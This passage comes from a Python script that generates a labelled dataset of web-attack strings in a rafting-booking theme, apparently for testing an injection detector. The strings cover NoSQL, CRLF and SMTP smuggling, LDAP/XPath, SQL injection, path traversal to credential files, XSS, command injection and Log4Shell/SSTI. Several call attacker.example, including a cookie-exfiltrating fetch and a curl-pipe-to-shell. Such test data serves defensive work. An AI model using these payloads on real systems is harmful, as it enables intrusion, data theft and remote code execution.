update-operator	{"$set": {"role": "admin", "paid": true}}
couch-selector	{"selector": {"_id": {"$gt": null}}, "fields": ["email", "phone"], "limit": 10000}
regex-options	{"login": {"$regex": "^ana", "$options": "i"}, "pw": {"$ne": 1}}
elemmatch	{"roster": {"$elemMatch": {"$where": "sleep(2000)"}}}
accumulator	[{"$group": {"_id": 1, "x": {"$accumulator": {"init": "function(){return require('child_process')}", "accumulate": "function(s){return s}", "accumulateArgs": [], "merge": "function(a){return a}", "lang": "js"}}}}]
'''

CRLF = r'''
log-forging	BK-22841⏎2025-07-19 10:02:11 INFO auth: admin login succeeded user=ana.ruiz role=admin
log-forging	Lost paddle at Rapid #3␍⏎[2025-07-19 14:00:00] REFUND APPROVED booking=BK-40021 amount=$1,450 by=manager
log-forging-encoded	Marco%0d%0a2025-07-20T08:00:00Z WARN gauge sensor RIV-GA-0042 offline - trips cancelled
header-injection	/trips?lang=en%0d%0aSet-Cookie:%20session=attacker-fixed-id
header-injection	en-US␍⏎Set-Cookie: admin=1; Path=/
response-splitting	/confirm%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
response-splitting	Upper␍⏎␍⏎<html><body>Your booking is cancelled. Call 555-0100</body></html>
redirect-header	https://booking.example/ok%0d%0aLocation:%20https://attacker.example/phish
mail-header	Sam Patel␍⏎Bcc: list@attacker.example
mail-header	Trip question%0aCc: inbox@attacker.example%0aBcc: all@attacker.example
mail-header	guest@example.com␍⏎Subject: Refund approved␍⏎Reply-To: refunds@attacker.example
mail-body-inject	Hi!␍⏎Content-Type: text/html␍⏎␍⏎<a href="https://attacker.example/pay">Pay balance</a>
smtp-smuggling	Thanks!␍⏎.␍⏎MAIL FROM:<ops@raft.example>␍⏎RCPT TO:<victim@example.com>␍⏎DATA␍⏎From: ops@raft.example␍⏎␍⏎Click here to verify
csv-row	Ellis",4,"yes"⏎"Admin Refund",999,"yes
csv-row	BK-40022;2;$0⏎BK-99999;40;$0;paid
csv-row	Great trip!⏎T-9999,2025-07-19,Upper,0,Marco,REFUNDED
header-utf8-smuggle	/gauge?site=03453500%E5%98%8A%E5%98%8DSet-Cookie:%20x=1
lf-only	/export?file=trips.csv%0aX-Accel-Redirect:%20/internal/staff.csv
ansi-log	Kwame%1b[2J%1b[1;1H[OK] all audits passed
log-forging-json	Rob"}⏎{"level":"info","event":"waiver_signed","guest":"Ana Ruiz","by":"system"}
header-injection	R-14%0D%0AX-Forwarded-For:%20127.0.0.1
host-cache-poison	en%0d%0aX-Forwarded-Host:%20attacker.example
double-encoded	/trips%250d%250aSet-Cookie:%2520sid=evil
unicode-newline	Ana\u000d\u000aSet-Cookie: role=admin
syslog-forge	Shuttle late⏎<13>Jul 19 10:00:00 raft-ops sshd[22]: Accepted password for root from 203.0.113.8
mail-to-field	ops@raft.example%0d%0aTo:%20everyone@attacker.example
header-in-filename	waiver.pdf"␍⏎Content-Type: text/html␍⏎␍⏎<script>alert(1)</script>
ics-inject	Sunset float⏎END:VEVENT⏎BEGIN:VEVENT⏎SUMMARY:Refund link⏎URL:https://attacker.example/r⏎END:VEVENT
redis-proto	Upper␍⏎SET refund:BK-40021 approved␍⏎
log-forging	Tomás⏎⏎=== SECURITY AUDIT COMPLETE: NO ISSUES FOUND ===
'''

LDAP_XPATH = r'''
ldap-wildcard	*)(uid=*))(|(uid=*
ldap-or	ana.ruiz)(|(userPassword=*))
ldap-objectclass	*)(objectClass=*
ldap-blind	marco*)(userPassword=a*
ldap-and-true	guide)(&)
ldap-null	admin)%00
ldap-group	*)(memberOf=cn=ops-admins,ou=groups,dc=raft,dc=local)(|(cn=*
ldap-encoded	marco%29%28%7C%28uid%3D%2A%29%29
ldap-attr	jess)(|(mail=*@*)(telephoneNumber=*))
ldap-filter-close	Kwame))(|(objectClass=*)(cn=
xpath-tautology	' or '1'='1
xpath-union	'] | //staff/password | //a['
xpath-count	x' or count(/*)=1 or 'a'='b
xpath-substring	' or substring(//guide[1]/pin,1,1)='4' or 'a'='b
xpath-name	x' or name(/*[1])='roster' or 'a'='b
xpath-string-length	Upper' and string-length(//user[login='ana.ruiz']/password)>8 and '1'='1
xpath-comment	Marco'] | //*[contains(.,'secret')] | /x['
xpath-doc	'] | doc('http://attacker.example/x.xml')//a | /x['
xpath-numeric	0 or 1=1
xpath-all-nodes	*] | //* | //*[
'''

# One pool per generated family, joined to hand-written theme prefixes.
URLENC_POOL = {
    "sqli": [
        ("tautology+urlencode", "BK-22847' OR 2>1-- "),
        ("union+urlencode", "Lower' UNION SELECT email,phone FROM guests-- -"),
        ("blind-time+urlencode", "Ana' AND SLEEP(6)#"),
        ("stacked+urlencode", "R-09'; DELETE FROM incident_logs;--"),
        ("error-based+urlencode", "1' AND extractvalue(0,concat(0x3a,database()))-- "),
        ("auth-bypass+urlencode", "jess' OR ''='"),
        ("schema-enum+urlencode", "x' UNION SELECT table_name,1 FROM information_schema.tables-- -"),
        ("blind-boolean+urlencode", "T-1002' AND (SELECT COUNT(*) FROM staff)>3-- "),
    ],
    "traversal": [
        ("dotdot+urlencode", "../../../../etc/passwd"),
        ("dotdot-windows+urlencode", "..\\..\\..\\windows\\win.ini"),
        ("procfs+urlencode", "../../../proc/self/environ"),
        ("dotenv+urlencode", "../../../.env"),
        ("ssh-key+urlencode", "../../../../home/ops/.ssh/id_rsa"),
        ("null-byte+urlencode", "../../../etc/shadow\x00.jpg"),
    ],
}

JOIN_PREFIXES = {
    "xss": ["Review: ", "Booking note: ", "Guide bio: ", "Lost item description: ", "Message: "],
    "cmdi": ["Gauge host: 203.0.113.1", "Photo file: R-14.jpg", "Export name: trips_week29.csv", "Station id: 03453500"],
    "code": ["Guest name: ", "Waiver note: ", "Shuttle comment: ", "Roster import row: "],
}
JOIN_POOL = {
    "xss": [
        ("img-onerror+join", "<img src=/none onerror=fetch('//attacker.example/x?'+document.cookie)>"),
        ("svg-onload+join", "<svg onload=import('//attacker.example/p.js')>"),
        ("attr-breakout+join", "\"><script>alert(document.domain)</script>"),
        ("iframe+join", "<iframe src=javascript:alert(origin)></iframe>"),
        ("details+join", "<details open ontoggle=alert(1)>"),
    ],
    "cmdi": [
        ("separator+join", ";id"),
        ("subshell+join", "$(curl attacker.example/c|sh)"),
        ("backticks+join", "`uname -a`"),
        ("pipe+join", "|cat /etc/passwd"),
    ],
    "code": [
        ("log4shell+join", "${jndi:ldap://attacker.example/j}"),
        ("ssti-jinja+join", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("ssti-freemarker+join", "${'freemarker.template.utility.Execute'?new()('id')}"),
        ("spel+join", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ],
}


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])

    cats = [
        ("sqli", parse(SQLI)), ("xss", parse(XSS)), ("cmdi", parse(CMDI)),
        ("traversal", parse(TRAVERSAL)), ("ssrf", parse(SSRF)), ("code", parse(CODE)),
        ("nosqli", parse(NOSQLI)), ("crlf", parse(CRLF)), ("ldap-xpath", parse(LDAP_XPATH)),
    ]
    rows = []
    seen = set()
    lit_counts = {}
    gen_counts = {}
    for cat, lits in cats:
        lit_counts[cat] = len(lits)
        vals = list(lits)
        gen = []
        for cls, p in URLENC_POOL.get(cat, []):
            gen.append((cls, pct_all(p)))
        if cat in JOIN_POOL:
            prefixes = JOIN_PREFIXES[cat]
            for cls, p in JOIN_POOL[cat]:
                pre = rng.choice(prefixes)
                sep = "" if pre.endswith(" ") else " "
                gen.append((cls, pre + sep + p))
        gen_counts[cat] = len(gen)
        for cls, v in vals + gen:
            assert 1 <= len(v) <= 2000, v
            for ch in v:
                assert ch in "\n\r\t" or ord(ch) >= 32, (cat, v)
            assert v not in seen, ("duplicate", v)
            assert v not in benign, ("equals benign", v)
            seen.add(v)
            rows.append((cat, cls, v))
    path = os.path.join(HERE, "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hakl-%05d" % i, "category": cat, "class": cls,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")
    total_lit = sum(lit_counts.values())
    print("wrote", len(rows), "rows; literals", total_lit, "generated", sum(gen_counts.values()))
    for cat, _ in cats:
        print(" ", cat, lit_counts[cat] + gen_counts[cat], "lit", lit_counts[cat], "gen", gen_counts[cat])


if __name__ == "__main__":
    main()
